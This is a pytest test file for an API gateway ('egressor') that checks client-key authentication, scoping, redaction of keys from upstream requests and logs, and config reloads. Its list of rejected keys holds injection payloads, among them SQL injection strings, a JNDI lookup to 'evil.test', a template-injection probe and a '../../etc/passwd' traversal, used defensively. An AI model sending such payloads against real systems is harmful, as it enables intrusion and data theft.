"""
Clients' keys, through real sockets: who gets in, as whom, where to, and what the upstream sees of it.
"""

from __future__ import annotations

import json
import logging
from base64 import b64encode
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from typing import Any

import anthropic
import openai
import pytest
from aiohttp import web

from egressor import ConfigError
from egressor.gateway.keys import PREFIX, digest, new_key
from egressor.policies import ClientKey, Gateway, from_services
from tests.gateway.rig import TOKEN, Rig, gateway_of, upstream

pytestmark = pytest.mark.anyio
# Fixed, so that every worker of a parallel run collects the same cases.
KEY, OTHER = PREFIX + "k3Yq" * 10 + "abc", PREFIX + "0tHr" * 10 + "xyz"
ANN = ClientKey(name="ann", sha256=digest(KEY), user="ann", feature="chat", services=["t", "own"])  # type: ignore[arg-type]
BOB = ClientKey(name="bob", sha256=digest(OTHER))
KEYS = [ANN, BOB]
BAD_KEYS = [
    "",
    " ",
    "x",
    PREFIX,
    KEY[:-1],
    KEY + "x",
    KEY.upper(),
    KEY[::-1],
    digest(KEY),
    f"{KEY} {OTHER}",
    f"{KEY},{OTHER}",
    "null",
    "undefined",
    "None",
    "*",
    "%",
    "' OR '1'='1",
    "'; DROP TABLE keys; --",
    "${jndi:ldap://evil.test/x}",
    "{{7*7}}",
    "../../etc/passwd",
    "%00",
    "é",
    "\U0001d7d9" * 40,
    "A" * 600,
    "A" * 60_000,
    "[]",
    "{}",
    "true",
    "0",
]


@asynccontextmanager
async def rig_of(seen: list[web.BaseRequest]) -> AsyncIterator[Rig]:
    """
    Run a gateway with two clients' keys and three services, the second with a key of its own.
    """

    async def note(request: web.BaseRequest) -> web.Response:
        seen.append(request)
        return web.json_response({})

    async with upstream(note) as base:
        services: dict[str, Any] = {
            "t": {"base_url": base, "dialect": "openai"},
            "own": {"base_url": base, "api_key": {"env": "SERVICE_KEY"}},
            "third": {"base_url": base, "dialect": "anthropic"},
        }
        async with gateway_of(services, bounds={"keys": KEYS}) as rig:
            yield rig


@pytest.fixture(autouse=True)
def _service_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SERVICE_KEY", "sk-service")


@pytest.mark.parametrize(
    "headers",
    [
        {"Authorization": f"Bearer {KEY}"},
        {"authorization": f"bearer  {KEY}"},
        {"Authorization": KEY},
        {"Authorization": f"Basic {b64encode(f'ann:{KEY}'.encode()).decode()}"},
        {"Authorization": f"Basic {b64encode(f'{KEY}:'.encode()).decode()}"},
        {"x-api-key": KEY},
        {"api-key": KEY},
        {"X-Goog-Api-Key": KEY},
        {"Egressor-Key": KEY},
        {"Egressor-Key": KEY, "X-Note": f"my key is {KEY}", "Cookie": f"key={KEY}"},
        {"Authorization": f"Bearer {KEY}", "x-api-key": KEY, "Connection": "authorization, x-api-key"},
    ],
)
@pytest.mark.parametrize("service", ["t", "own"])
async def test_a_key_gets_in_and_goes_no_further(headers: dict[str, str], service: str) -> None:
    """
    Wherever an SDK puts it, a key opens its services, and nothing of it reaches the upstream.
    """
    seen: list[web.BaseRequest] = []
    async with rig_of(seen) as rig, rig.session.get(f"{rig.url}/{service}/x", headers=headers) as answer:
        pass

    assert answer.status == 200
    assert KEY not in str(seen[0].raw_headers)
    assert b64encode(KEY.encode()).decode()[4:-4] not in str(seen[0].raw_headers)
    assert seen[0].headers.get("Authorization") == ("Bearer sk-service" if service == "own" else None)


async def test_a_clients_own_key_of_the_service_passes() -> None:
    """
    Where the service has no key here, the client's own goes through, beside the one for the gateway.
    """
    seen: list[web.BaseRequest] = []
    headers = {"Egressor-Key": KEY, "Authorization": "Bearer sk-mine"}
    async with rig_of(seen) as rig, rig.session.get(f"{rig.url}/t/x", headers=headers) as answer:
        pass

    assert (answer.status, seen[0].headers["Authorization"]) == (200, "Bearer sk-mine")


@pytest.mark.parametrize("key", BAD_KEYS, ids=range(len(BAD_KEYS)))
async def test_no_other_key_gets_in(key: str) -> None:
    """
    Whatever else stands where a key stands is a 401, on every service and under every header, and is not echoed.
    """
    seen: list[web.BaseRequest] = []
    basic = b64encode(f"ann:{key}".encode()).decode()
    async with rig_of(seen) as rig:
        for path in ("/t/x", "/own/x", "/third/x", "/nothing/x", "/"):
            for name, value in (
                ("Authorization", f"Bearer {key}"),
                ("Authorization", f"Basic {basic}"[:60_000]),
                ("x-api-key", key),
                ("Egressor-Key", key),
            ):
                async with rig.session.get(rig.url + path, headers={name: value}) as answer:
                    text = await answer.text()
                assert (answer.status, json.loads(text)["reason"]) == (401, "client_key")
                assert len(key) < 10 or key not in text
        services = set(rig.gov.status())

    assert (seen, services) == ([], {"t", "own", "third"})


@pytest.mark.parametrize("headers", [{}, {"Authorization": f"Bearer {KEY}", "Egressor-Key": OTHER}])
async def test_no_key_or_two(headers: dict[str, str]) -> None:
    """
    Without a key, or with those of two clients, nobody is anybody.
    """
    seen: list[web.BaseRequest] = []
    async with rig_of(seen) as rig, rig.session.get(rig.url + "/t/x", headers=headers) as answer:
        document = await answer.json()

    assert (answer.status, seen) == (401, [])
    assert answer.content_type == "application/problem+json"
    assert answer.headers["WWW-Authenticate"] == 'Bearer realm="egressor"'
    assert (answer.headers["x-should-retry"], document["error"]["type"]) == ("false", "authentication_error")


@pytest.mark.parametrize(
    ("path", "headers", "reason"),
    [
        ("/third/x", {}, "not_this_service"),
        ("/nothing/x", {}, "not_this_service"),
        ("/t/x", {"Egressor-User": "bob"}, "not_this_scope"),
        ("/t/x", {"Egressor-Feature": "batch"}, "not_this_scope"),
    ],
)
async def test_a_key_opens_its_own_only(path: str, headers: dict[str, str], reason: str) -> None:
    """
    Other services, and another's name, are a 403.
    """
    seen: list[web.BaseRequest] = []
    headers = headers | {"Egressor-Key": KEY}
    async with rig_of(seen) as rig, rig.session.get(rig.url + path, headers=headers) as answer:
        document = await answer.json()

    assert (answer.status, document["reason"], seen) == (403, reason, [])


async def test_a_key_in_the_url_is_refused() -> None:
    """
    A key that also stands in the path or the query would reach the upstream's log.
    """
    seen: list[web.BaseRequest] = []
    async with rig_of(seen) as rig:
        for path in (f"/t/{KEY}", f"/t/x?key={KEY}"):
            async with rig.session.get(rig.url + path, headers={"x-api-key": KEY}) as answer:
                assert answer.status == 400
                assert KEY not in await answer.text()

    assert seen == []


async def test_a_key_is_a_scope() -> None:
    """
    The key's user has a limit of its own, whatever the client says; without a user the client says who it is.
    """
    rules = [{"match": {"user": "*"}, "limits": ["1/hour"]}]
    statuses = []

    async def fine(request: web.BaseRequest) -> web.Response:
        return web.Response()

    async with (
        upstream(fine) as base,
        gateway_of(
            {"t": {"base_url": base, "rules": rules, "max_wait": 0}},
            bounds={"keys": [replace(ANN, services=()), BOB]},
        ) as rig,
    ):
        for key, user in ((KEY, None), (KEY, "ann"), (OTHER, "zoe"), (OTHER, "yan"), (OTHER, "zoe")):
            headers = {"Egressor-Key": key} | ({} if user is None else {"Egressor-User": user})
            async with rig.session.get(rig.url + "/t/x", headers=headers) as answer:
                statuses.append(answer.status)

    assert statuses == [200, 429, 200, 200, 429]


async def test_pages_need_the_token_then() -> None:
    """
    Where clients need keys, looking needs the operator's token; only the two probes are open, and no key is a token.
    """
    seen: list[web.BaseRequest] = []
    basic = b64encode(f"me:{TOKEN}".encode()).decode()
    found = {}
    async with rig_of(seen) as rig:
        for path in ("/-/", "/-/page.js", "/-/status.json", "/-/openapi.json", "/-/nothing", "/-/healthz", "/-/readyz"):
            row = []
            for header in ("", f"Bearer {KEY}", f"Bearer {TOKEN}x", f"Basic {basic}", f"Bearer {TOKEN}"):
                async with rig.session.get(rig.url + path, headers={"Authorization": header}) as answer:
                    row.append(answer.status)
            found[path] = row
        async with rig.session.post(
            rig.url + "/-/services/t/pause", headers={"Authorization": f"Basic {basic}"}
        ) as answer:
            changed = answer.status

    probes = {path: found.pop(path) for path in ("/-/healthz", "/-/readyz")}
    assert probes == {path: [200] * 5 for path in probes}
    assert found.pop("/-/nothing") == [401, 401, 401, 404, 404]
    assert found == {path: [401, 401, 401, 200, 200] for path in found}
    assert changed == 401


async def test_sdks_see_a_wrong_key_as_their_own_error() -> None:
    """
    The official SDKs raise what they raise for a wrong key, at once.
    """
    seen: list[web.BaseRequest] = []
    async with rig_of(seen) as rig:
        async with openai.AsyncOpenAI(base_url=f"{rig.url}/t", api_key="wrong") as client:
            with pytest.raises(openai.AuthenticationError):
                await client.models.list()
        async with anthropic.AsyncAnthropic(base_url=f"{rig.url}/third", api_key="wrong") as other:
            with pytest.raises(anthropic.AuthenticationError):
                await other.messages.create(model="m", max_tokens=1, messages=[{"role": "user", "content": "x"}])
        async with openai.AsyncOpenAI(base_url=f"{rig.url}/t", api_key=KEY) as client:
            await client.models.list()

    assert len(seen) == 1


async def test_the_audit_log_names_no_key(caplog: pytest.LogCaptureFixture) -> None:
    """
    A refusal is logged with the time and the place, a flood of them in few lines.
    """
    caplog.set_level(logging.INFO, "egressor.audit")
    seen: list[web.BaseRequest] = []
    async with rig_of(seen) as rig:
        for _ in range(30):
            async with rig.session.get(rig.url + "/t/x", headers={"Authorization": f"Bearer {KEY}x"}):
                pass

    assert len([record for record in caplog.records if record.name == "egressor.audit"]) <= 10
    assert KEY not in caplog.text


async def test_a_reload_takes_keys_and_gives_keys() -> None:
    """
    A key that is gone from the configuration opens nothing, from the next request on.
    """
    seen: list[web.BaseRequest] = []
    async with rig_of(seen) as rig:
        statuses = []
        config = rig.gov.config
        for keys in (KEYS, KEYS[1:], KEYS):
            rig.gateway.reload(replace(config, gateway=Gateway(keys=tuple(keys))))
            async with rig.session.get(rig.url + "/t/x", headers={"x-api-key": KEY}) as answer:
                statuses.append(answer.status)

    assert statuses == [200, 401, 200]


async def test_a_reload_does_not_open_the_door() -> None:
    """
    A gateway that other machines can reach keeps its keys when a file without any is read.
    """
    seen: list[web.BaseRequest] = []
    async with rig_of(seen) as rig:
        rig.gateway.host = "0.0.0.0"
        with pytest.raises(ConfigError, match="open to other machines"):
            rig.gateway.reload(from_services({"t": {"base_url": "http://127.0.0.1:9"}}))
        async with rig.session.get(rig.url + "/t/x") as answer:
            assert answer.status == 401


def test_a_new_key_is_nobodys() -> None:
    """
    Each new key is another one, of 256 bits, in characters that every header and URL takes.
    """
    keys = {new_key() for _ in range(1000)}

    assert len(keys) == 1000
    assert {len(key) for key in keys} == {len(PREFIX) + 43}
    assert all(key.isascii() and key.replace("-", "").replace("_", "").isalnum() for key in keys)
